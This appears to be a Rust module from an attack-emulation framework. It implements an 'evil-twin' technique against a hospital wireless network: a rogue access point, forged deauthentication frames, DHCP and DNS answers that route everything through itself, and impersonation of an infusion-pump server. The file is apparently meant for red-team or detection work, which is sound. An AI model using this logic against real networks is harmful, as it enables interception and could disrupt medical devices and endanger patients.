//! Offers a network that looks like the hospital's.

use super::craft::radio::{DWELL, Scan, forged, ssid};
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Interval, Network, Parameters, Port};
use crate::time::Duration;
use crate::wire::dhcp::{CLIENT_PORT, Dhcp, Lease, SERVER_PORT};
use crate::wire::dns::{Dns, PORT as DNS_PORT};
use crate::wire::{Ip, Message};

/// Technique `evil-twin`.
#[derive(Debug)]
pub(super) struct EvilTwin;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Name of the network; the one heard strongest if not given.
    network: Option<Network>,
    /// Channel; that of the strongest access point of the network if not given.
    #[param(range = 1..=14)]
    channel: Option<u8>,
    /// Port of the pump server that it stands in for; none if not given.
    port: Option<Port>,
    /// Interval at which it tells the stations of the true access point to leave; never if not given.
    deauthenticate_every: Option<Interval>,
    /// How long at the most.
    #[param(key = "for", default = "14m")]
    span: Duration,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    scan: Scan,
    /// Leases offered and messages taken from pumps: numbers both.
    answers: u32,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, EvilTwin>;

static ENTRY: Entry = Entry {
    id: "evil-twin",
    title: "Offer a false access point",
    summary: "Offers a network of the same name from its own radio: with the passphrase it knows for it, or else open. Stations that ask for no more \
              than that take the stronger signal. It answers their address requests, gives its own address for every name, answers for every address, \
              and, if a port is given, greets pumps there as their server would. It can tell stations to leave the true access point of its \
              channel, at intervals. Succeeds when a station comes, or when a pump takes it for its server if a port is given. A sensor on the channel hears a \
              known name from an unknown access point.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1557.004", "T0860", "T0830"],
};

const TOKEN_LOOK: u32 = 1;
const TOKEN_FORGE: u32 = 2;
const TOKEN_END: u32 = 3;
/// Own address on the offered network.
const OWN: Ip = Ip(0x0A42_0001);

fn look(step: &mut Step<'_, '_, '_>) -> Progress {
    if let Some(channel) = step.state.scan.next() {
        step.ask_networks(channel);
        step.hands.timer(DWELL, TOKEN_LOOK);
        return Progress::Wait;
    }
    step.hands.stop_monitoring();
    offer(step)
}

fn offer(step: &mut Step<'_, '_, '_>) -> Progress {
    let given = ssid(step.params.network.as_ref());
    let strongest = step.knowledge.radio.named(given).max_by_key(|n| n.dbm);
    let name = strongest.map_or_else(|| given.to_owned(), |n| n.ssid.clone());
    let name = name.as_str();
    let channel = step.params.channel.or_else(|| strongest.map(|n| n.channel));
    let Some(channel) = channel else {
        return Progress::Failed("no such network on the air, and no channel given");
    };
    let mut known = step.knowledge.passphrases.iter().rev();
    let key = known.find(|k| k.value.0 == name).cloned();
    if let Some(taught) = key.as_ref().and_then(|k| k.taught) {
        step.hands.uses(taught);
    }
    let passphrase = key.map(|k| k.value.1);
    step.hands.offer(name, channel, passphrase.as_ref());
    for port in [SERVER_PORT, DNS_PORT] {
        step.hands.bind(port);
    }
    if let Some(port) = step.params.port {
        step.hands.listen(port.0);
    }
    forge(step);
    Progress::Reached(1)
}

fn forge(step: &mut Step<'_, '_, '_>) {
    let Some(every) = step.params.deauthenticate_every else {
        return;
    };
    let name = ssid(step.params.network.as_ref());
    let networks: Vec<_> = step.knowledge.radio.named(name).map(|n| n.bssid).collect();
    for bssid in networks {
        step.hands.inject(forged(bssid));
    }
    step.hands.timer(every.0, TOKEN_FORGE);
}

/// Answers a station that asks for an address or a name.
fn serve(step: &mut Step<'_, '_, '_>, from: (Ip, u16), message: &Message) -> bool {
    let answer = match message {
        Message::Dhcp(Dhcp::Discover { xid, mac }) => {
            step.state.answers += 1;
            let lease = Lease {
                ip: Ip(OWN.0 + 9 + step.state.answers % 200),
                prefix: 16,
                gateway: Some(OWN),
                dns: Some(OWN),
                seconds: 3600,
            };
            let (xid, mac, server) = (*xid, *mac, OWN);
            Dhcp::Offer {
                xid,
                mac,
                lease,
                server,
            }
        }
        Message::Dhcp(Dhcp::Request { xid, mac, ip, .. }) => {
            let lease = Lease {
                ip: *ip,
                prefix: 16,
                gateway: Some(OWN),
                dns: Some(OWN),
                seconds: 3600,
            };
            Dhcp::Ack {
                xid: *xid,
                mac: *mac,
                lease,
                server: OWN,
            }
        }
        Message::Dns(Dns::Query { id, name }) => {
            let answer = Dns::Answer {
                id: *id,
                name: name.clone(),
                ip: Some(OWN),
            };
            step.hands
                .datagram_as((OWN, DNS_PORT), from, Message::Dns(answer));
            return true;
        }
        _ => return false,
    };
    let to = (Ip::BROADCAST, CLIENT_PORT);
    step.hands
        .datagram_as((OWN, SERVER_PORT), to, Message::Dhcp(answer));
    true
}

impl Technique for EvilTwin {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] =
        &["look", "offer", "a station comes", "a pump believes"];

    fn patience(params: &Params) -> Duration {
        params.span + Duration::from_mins(1)
    }

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                step.hands.timer(step.params.span, TOKEN_END);
                look(step)
            }
            Input::Timer(TOKEN_LOOK) => look(step),
            Input::Timer(TOKEN_FORGE) => {
                forge(step);
                Progress::Wait
            }
            Input::Timer(TOKEN_END) => Progress::Failed("nobody came, or nobody believed"),
            Input::Overheard(heard) => {
                step.note(heard);
                Progress::Wait
            }
            Input::Socket(SocketEvent::Datagram { from, message, .. }) => {
                if !serve(step, *from, message) {
                    return Progress::Wait;
                }
                came(step)
            }
            Input::Socket(SocketEvent::Accepted { stream, .. }) => {
                step.capture(*stream);
                came(step)
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                step.state.answers += 1;
                step.greet(step.state.answers, (*stream, message), "pump server")
            }
            _ => Progress::Wait,
        }
    }
}

/// A station is there: all that is wanted, unless pumps are to be greeted.
fn came(step: &mut Step<'_, '_, '_>) -> Progress {
    if step.params.port.is_some() {
        return Progress::Reached(2);
    }
    step.hands.learned("that a station came");
    Progress::Done("a station came")
}
